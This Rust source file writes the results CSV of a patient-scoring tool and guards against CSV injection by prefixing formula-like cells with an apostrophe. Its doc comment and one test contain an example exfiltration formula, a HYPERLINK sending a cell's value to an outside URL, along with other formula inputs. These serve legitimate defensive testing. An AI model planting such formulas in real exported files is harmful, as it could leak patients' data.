//! The results CSV: one line per patient with every status, percentage,
//! the summary sentence and the row's problems, then the TIS and the DOI.
//! The CLI writes it to stdout; the page offers it as a download.

use crate::{Cohort, RowResult};
use dmscore_core::format::{rounded_percent, value};
use dmscore_core::{doi, outcomes, summarise, tis, Verdict};
use std::borrow::Cow;
use std::io::Write;

/// The results CSV's header. Columns added later go at the end, so a
/// script reading an earlier column by position keeps working.
pub const RESULT_COLUMNS: [&str; 16] = [
    crate::ID_COLUMN,
    "verdict",
    "ck_status",
    "ck_improvement_percent",
    "mmt_status",
    "mmt_improvement_percent",
    "dssi_status",
    "dssi_improvement_percent",
    "summary",
    "errors",
    "tis_score",
    "tis_score_min",
    "tis_score_max",
    "tis_category",
    "doi_status",
    "rules_version",
];

/// One patient's line of the results CSV.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct ResultLine {
    pub cells: [String; RESULT_COLUMNS.len()],
}

impl Cohort {
    /// The row's full result: statuses, percentages and the summary
    /// sentence (the per-criterion reasons are left to the page), then the
    /// TIS and the DOI. An invalid row keeps its id, the statuses and the
    /// TIS range of what could be scored (bad values counted as missing)
    /// and its problems, but its verdict, TIS category and DOI status are
    /// `invalid` and its summary says why it was not scored.
    pub fn result_line(&self, index: usize) -> ResultLine {
        self.scored_line(index).1
    }

    /// The row's decision ([`Cohort::score`]) and its results line, each
    /// value checked and each definition decided once for both, as
    /// `dmscore --csv` needs them.
    pub fn scored_line(&self, index: usize) -> (RowResult, ResultLine) {
        let inputs = self.inputs(index);
        let outcomes = outcomes(&inputs);
        let statuses = outcomes.each_ref().map(|o| o.status());
        let scored = Verdict::from_statuses(statuses);
        let invalid = self.row_problem(index).is_some() || RowResult::any_invalid(&inputs);
        let problems = self.problems_with(index, &inputs).join("; ");
        let tis = tis::decide(&inputs);
        let doi = doi::decide(&inputs).status;
        let result = if invalid {
            RowResult::Invalid
        } else {
            RowResult::scored(&inputs, statuses, tis.category, doi)
        };
        let code = |scored_code: &'static str| if invalid { "invalid" } else { scored_code };
        let summary = if invalid {
            format!("Not scored: correct these values, then score the row again: {problems}.")
        } else {
            summarise(scored, outcomes.each_ref())
        };
        let [ck, mmt, dssi] = outcomes.each_ref().map(|o| {
            let percent = o
                .improvement()
                .map(|p| rounded_percent(p, 2).normalize().to_string())
                .unwrap_or_default();
            (o.status().code().to_owned(), percent)
        });
        let line = ResultLine {
            cells: [
                self.id(index).to_owned(),
                code(scored.code()).to_owned(),
                ck.0,
                ck.1,
                mmt.0,
                mmt.1,
                dssi.0,
                dssi.1,
                summary,
                problems,
                tis.score().map(value).unwrap_or_default(),
                value(tis.score_min),
                value(tis.score_max),
                code(tis.category.code()).to_owned(),
                code(doi.code()).to_owned(),
                dmscore_core::RULES_VERSION.to_owned(),
            ],
        };
        (result, line)
    }
}

/// Writes the header and `lines` as CSV, each cell one a spreadsheet
/// shows rather than runs (`shown_not_run`).
pub fn write_results(
    lines: impl IntoIterator<Item = ResultLine>,
    output: impl Write,
) -> Result<(), String> {
    let mut writer = csv::Writer::from_writer(output);
    let failed = |e: csv::Error| format!("output: {e}");
    writer.write_record(RESULT_COLUMNS).map_err(failed)?;
    for line in lines {
        for cell in &line.cells {
            writer
                .write_field(shown_not_run(cell).as_bytes())
                .map_err(failed)?;
        }
        // No more fields: this ends the record.
        writer.write_record(None::<&[u8]>).map_err(failed)?;
    }
    writer.flush().map_err(|e| format!("output: {e}"))
}

/// A cell that opens in a spreadsheet as the text it holds. A spreadsheet
/// runs a cell starting with `=` as a formula (LibreOffice Calc shows
/// `=1+1` as 2), and by the OWASP guidance on CSV injection Excel also one
/// starting with `+`, `-`, `@`, a tab or a carriage return. So a patient
/// id from a hostile or mistyped file (`=HYPERLINK("https://…?"&B2,
/// "open")`) could show another value, or send the row out of the
/// hospital when clicked (hazard H22). Such a cell is written after an
/// apostrophe, a spreadsheet's mark for text; a number (`-150`, a
/// percentage that worsened) is written as it is.
fn shown_not_run(cell: &str) -> Cow<'_, str> {
    let runs = cell.starts_with(['=', '+', '-', '@', '\t', '\r']);
    if runs && !is_plain_number(cell) {
        Cow::Owned(format!("'{cell}"))
    } else {
        Cow::Borrowed(cell)
    }
}

/// A sign, digits and at most one decimal point between digits: what the
/// results' own numbers look like.
fn is_plain_number(cell: &str) -> bool {
    let unsigned = cell.strip_prefix(['+', '-']).unwrap_or(cell);
    let (whole, fraction) = unsigned.split_once('.').unwrap_or((unsigned, "0"));
    [whole, fraction]
        .iter()
        .all(|digits| !digits.is_empty() && digits.bytes().all(|b| b.is_ascii_digit()))
}

#[cfg(test)]
mod tests {
    use super::*;

    fn results(csv: &str) -> Vec<Vec<String>> {
        let cohort = Cohort::read(csv.as_bytes()).unwrap();
        let mut out = Vec::new();
        write_results((0..cohort.len()).map(|i| cohort.result_line(i)), &mut out).unwrap();
        csv::Reader::from_reader(out.as_slice())
            .records()
            .map(|r| r.unwrap().iter().map(str::to_owned).collect())
            .collect()
    }

    #[test]
    fn a_line_holds_statuses_percentages_summary_and_problems() {
        let rows = results(
            "patient_id,ck-uln,ck-baseline,ck-week24,mmt-max,mmt-baseline,mmt-week24\nP1,200,1200,500,,,\nP2,200,1200,500,150,110,200\n",
        );
        assert_eq!(
            rows[0][..8],
            [
                "P1",
                "achieved",
                "met",
                "58.33",
                "not_entered",
                "",
                "not_entered",
                ""
            ]
        );
        assert!(
            rows[0][8].starts_with("Partial remission achieved"),
            "{}",
            rows[0][8]
        );
        assert_eq!(rows[0][9], "");
        assert_eq!(rows[1][1], "invalid");
        assert_eq!(rows[1][2], "met");
        assert_eq!(rows[1][9], "mmt-week24: must be between 0 and 150");
        // A row that cannot be scored never reads as a remission.
        assert_eq!(
            rows[1][8],
            "Not scored: correct these values, then score the row again: mmt-week24: must be between 0 and 150."
        );
        assert_eq!(
            rows[1][13..],
            ["invalid", "invalid", dmscore_core::RULES_VERSION]
        );
        // CK (58 % → 7.5) as the enzyme; the other five missing (no MMT maximum).
        assert_eq!(
            rows[0][10..],
            [
                "",
                "7.5",
                "100",
                "indeterminate",
                "indeterminate",
                dmscore_core::RULES_VERSION
            ]
        );
    }

    #[test]
    fn a_row_with_a_bad_value_is_never_summarised_as_a_remission() {
        let rows = results(
            "patient_id,ck-uln,ck-baseline,ck-week24,dssi-baseline,dssi-week24\nP1,200,\"1,200\",500,10,4\nP2,200,1200,500,-3,4\n",
        );
        for row in &rows {
            assert_eq!(row[1], "invalid");
            assert!(row[8].starts_with("Not scored: "), "{}", row[8]);
            assert!(!row[8].contains("achieved"), "{}", row[8]);
        }
        assert!(
            rows[0][8].contains("ck-baseline: use a decimal point"),
            "{}",
            rows[0][8]
        );
        assert!(
            rows[1][8].contains("dssi-baseline: cannot be negative"),
            "{}",
            rows[1][8]
        );
    }

    #[test]
    fn a_complete_core_set_gets_its_tis_and_doi() {
        let rows = results(
            "patient_id,population,mmt-max,mmt-baseline,mmt-week24,pga-baseline,pga-week24,ptga-baseline,ptga-week24,haq-baseline,haq-week24,extra-baseline,extra-week24,enzyme-name,enzyme-uln,enzyme-baseline,enzyme-week24\nP1,adult,150,110,135,6,3,7,5,1.5,1.125,4,2,aldolase,8,24,12\n",
        );
        assert_eq!(rows[0][10..15], ["67.5", "67.5", "67.5", "major", "met"]);
    }

    #[test]
    fn an_id_a_spreadsheet_would_run_is_written_as_text() {
        let rows = results(concat!(
            "patient_id,ck-uln,ck-baseline,ck-week24\n",
            "\"=HYPERLINK(\"\"https://example.org/?\"\"&B2,\"\"open\"\")\",200,1200,500\n",
            "@SUM(1),200,1200,500\n+1-2,200,1200,500\n-3+4,200,1200,500\n",
            "\"\t=1\",200,1200,500\n-12,200,1200,500\n+7.5,200,1200,500\nP1,200,500,1200\n",
        ));
        let ids: Vec<&str> = rows.iter().map(|row| row[0].as_str()).collect();
        assert_eq!(
            ids,
            [
                "'=HYPERLINK(\"https://example.org/?\"&B2,\"open\")",
                "'@SUM(1)",
                "'+1-2",
                "'-3+4",
                "'\t=1",
                "-12",
                "+7.5",
                "P1",
            ]
        );
        // A percentage that worsened stays a number.
        assert_eq!(rows[7][3], "-140");
    }

    #[test]
    fn only_signed_digits_with_one_point_are_plain_numbers() {
        for number in ["0", "-150", "+7.5", "12.25"] {
            assert!(is_plain_number(number), "{number}");
        }
        for text in ["", "-", "-.5", "1.", "1.2.3", "-1+2", "1e3", "--1", "-inf"] {
            assert!(!is_plain_number(text), "{text}");
        }
    }

    #[test]
    fn an_unreadable_row_is_invalid_with_the_readers_complaint() {
        // Invalid UTF-8 in a cell cannot become text.
        let mut csv = b"patient_id,dssi-baseline,dssi-week24\nP1,10,4\nP2,".to_vec();
        csv.extend([0xff, b'\n']);
        let cohort = Cohort::read(csv.as_slice()).unwrap();
        assert_eq!(cohort.score(1), RowResult::Invalid);
        let line = cohort.result_line(1);
        assert_eq!(line.cells[1], "invalid");
        assert!(!line.cells[9].is_empty());
        assert_eq!(cohort.result_line(0).cells[1], "achieved");
    }
}
